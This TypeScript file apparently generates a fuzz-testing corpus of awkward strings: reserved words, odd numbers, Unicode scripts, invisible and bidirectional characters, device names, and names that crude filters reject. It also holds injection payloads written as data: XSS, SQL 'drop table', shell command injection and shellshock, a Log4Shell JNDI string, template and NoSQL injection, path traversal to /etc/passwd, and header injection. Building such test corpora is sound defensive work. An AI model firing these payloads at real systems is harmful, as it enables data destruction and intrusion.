/**
 * Texts that break programs which take text for more than text, made here by kinds: words that mean nothing elsewhere, numbers,
 * signs, scripts, letters that change in length, commands of other languages, names of devices. `plain` may stand in a name,
 * `narrative` only where somebody tells something.
 */
const each = <T>(list: readonly T[], make: (one: T) => string): string[] => list.map(make)
const from = (...codes: readonly number[]): string => String.fromCodePoint(...codes)

/** Letters of a range, a few in a row from every step on. */
function script(first: number, last: number, step: number): string[] {
  const starts = Array.from({ length: Math.floor((last - first) / step) }, (_, i) => first + i * step)
  return each(starts, (code) => from(code, code + 1, code + 2))
}

/** Words with blanks between them. */
const words = (text: string): string[] => text.split(' ')

const RESERVED = words(
  'null nil none undefined true false NaN Infinity NULL Undefined TRUE False None (null) N/A hasOwnProperty constructor ' +
    '__proto__ toString then dunno \\ \\\\ /dev/null EOF \\. \\N - -- # ? * . .. ~ % & | !',
)

const NUMBERS = words(
  '0 1 -1 +1 00 007 0x0 0xffffffff 0b1 0o7 1e3 1E-3 1.0 -.5 1,5 1/0 0/0 -0 1_000 1’000 12345678901234567890 1e400 ' +
    '999999999999999999999999999999 ① ² ¼ Ⅷ ٣٤ ४२ ௧௨ １２３ ㉑ 𝟘𝟙 ৪ 2026-02-30 01/02/2026 12:60',
)

const SIGNS = words(
  '<>?:"{}|_+ ,./;\'[]\\-= !@#$%^&*()`~ Ω≈ç√∫˜µ≤≥÷ åß∂ƒ©˙∆˚¬…æ ¡™£¢∞§¶•ªº–≠ ¸˛Ç◊ı˜Â¯˘¿ ЁЂЃЄЅІЇЈЉЊЋЌЍЎЏ ⁰⁴⁵₀₁₂ ' +
    '“”‘’«»‹›„‚ ␢␣␀␛ ⅛⅜⅝⅞ ﬀﬁﬂﬃﬄ ㍉㌔ Ĳĳǆǅ ﷽',
).concat('\u00a0x\u2003y\u3000z')

/** Longer or shorter in the other case, or with two forms of one letter. */
const UNSTEADY = words('ȺȾ İstanbul ı ßẞ ŉ ΐΰ ǰ ẖ և ςΣσ ÅÅ ée\u0301 ﬆ ΑΙᾳ ǄǅǆǇ').concat(
  each([1, 5, 20, 40], (n) => `Z${'\u0301\u0316\u0323\u0346'.repeat(n)}o`),
)

const SCRIPTS = [
  ...script(0x0590 + 0x40, 0x05eb, 9),
  ...script(0x0621, 0x064b, 9),
  ...script(0x0905, 0x0939, 14),
  ...script(0x0e01, 0x0e2e, 14),
  ...script(0x10d0, 0x10fa, 14),
  ...script(0x1200, 0x1240, 20),
  ...script(0x3042, 0x3096, 20),
  ...script(0x4e00, 0x5400, 0x180),
  ...script(0xac00, 0xd700, 0xb00),
  ...script(0x1d400, 0x1d450, 26),
  ...script(0x20000, 0x20400, 0x180),
  ...each([0x1f600, 0x1f680, 0x1f980, 0x1f1e6], (code) => from(code, code + 4, code + 9)),
  ...[
    '👨‍👩‍👧‍👦',
    '🏳️‍🌈',
    '👍🏽',
    '🇬🇧🏴',
    '1️⃣',
    '♀️',
    '❤️',
    '(｡◕‿◕｡)',
    'ʇxǝʇ',
    'ᴛᴇxᴛ',
    'ⓣⓔⓧⓣ',
    'ｔｅｘｔ',
    '田中さん',
    '社會科學院',
    '사회과학원',
  ],
]

const TAGS = ['script', 'img', 'svg', 'iframe', 'a', 'style', 'body', 'math', 'object', 'template']
const HANDLERS = ['onerror', 'onload', 'onmouseover', 'onfocus']
const MARKUP = [
  ...each(TAGS, (tag) => `<${tag} ${HANDLERS[tag.length % 4]}=alert(${tag.length})>x</${tag}>`),
  ...each(TAGS, (tag) => `"'><${tag.toUpperCase()}\\x20src=javascript:alert(1) ${HANDLERS[tag.length % 4]}=x //`),
  ...[
    '<!--',
    '-->',
    '<![CDATA[x]]>',
    '&lt;b&gt;',
    '&#60;b&#62;',
    '%3Cb%3E',
    '<<b>>',
    '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
  ],
  ...[
    'javascript:alert(1)',
    'data:text/html,x',
    '[a](javascript:b)',
    '![a](x"onerror="b)',
    '<?xml version="1.0"?>',
    ']]>',
  ],
]

const SQL = each(
  ["'", '"', '`', "')", "';", "' --", "'/*", '\\'],
  (quote) => `x${quote} or 1=1; drop table referrals; select ${quote}`,
).concat(['$1', '$$x$$', ':name', '@@version', "E'\\x00'", 'pg_sleep(9)', 'copy t from program', '%s%n%x', '%(x)s'])

const COMMANDS = [
  ...['`id`', '$(id)', '; id', '| id', '&& id', '> /tmp/x', '$HOME', '%COMSPEC%', '() { :;}; id', '--version', '-rf /'],
  ...['$\u007bjndi:ldap://x.example/a}', '$\u007b7*7}', '#{7*7}', '{{7*7}}', '<%= 7*7 %>', '{% x %}', '[[x]]', '*{x}'],
  ...[
    '{"$gt":""}',
    '{"$where":"1"}',
    '[object Object]',
    '") { me { id } }',
    '=1+1',
    '+cmd|x',
    '@SUM(1)',
    '-2+3',
    '@(1+1)',
  ],
  ...words('../../etc/passwd ..\\..\\boot.ini file:///etc/passwd http://169.254.169.254/ C:\\con\\con %00 %2e%2e'),
]

const DEVICES = words('CON PRN AUX NUL COM1 LPT1 CLOCK$ A: ZZ: .htaccess Thumbs.db').concat('DCC SEND x 0 0 0')

/** Real names of people and places that filters for rude words, and programs of narrow minds, refuse. */
const PEOPLE = [
  ...words("Scunthorpe Penistone Lightwater Cockburn O Ng Yu Test O'Connor-Šašić ffrench d'Arc Sr. Jr 3rd"),
  ...['Dick van Dyke', 'Jennifer Null', 'X Æ A-12', 'Ó Súilleabháin', 'Mc Kenzie', 'de la Cruz y Vega', 'bin Salman'],
]

export const plain: readonly string[] = [
  ...new Set([RESERVED, NUMBERS, SIGNS, UNSTEADY, SCRIPTS, MARKUP, SQL, COMMANDS, DEVICES, PEOPLE].flat()),
]

/** Several lines, and signs that are not seen or turn the writing around. */
export const narrative: readonly string[] = [
  ...each(
    [0x200b, 0x200e, 0x200f, 0x202a, 0x202e, 0x2060, 0x2066, 0x2069, 0xfeff, 0xe0041],
    (code) => `a${from(code)}b`,
  ),
  ...each(['\n', '\r\n', '\r', '\t', '\n\n\n', '\u2028', '\u2029'], (end) => `one${end}two`),
  ...[
    'a: 1\r\nSet-Cookie: x=y',
    '{"level":60}\n{"level":10}',
    'To: x@y.example\n\n.\nQUIT',
    '-- \nx',
    '---\na: 1\n...',
    '```\nx\n```',
  ],
]
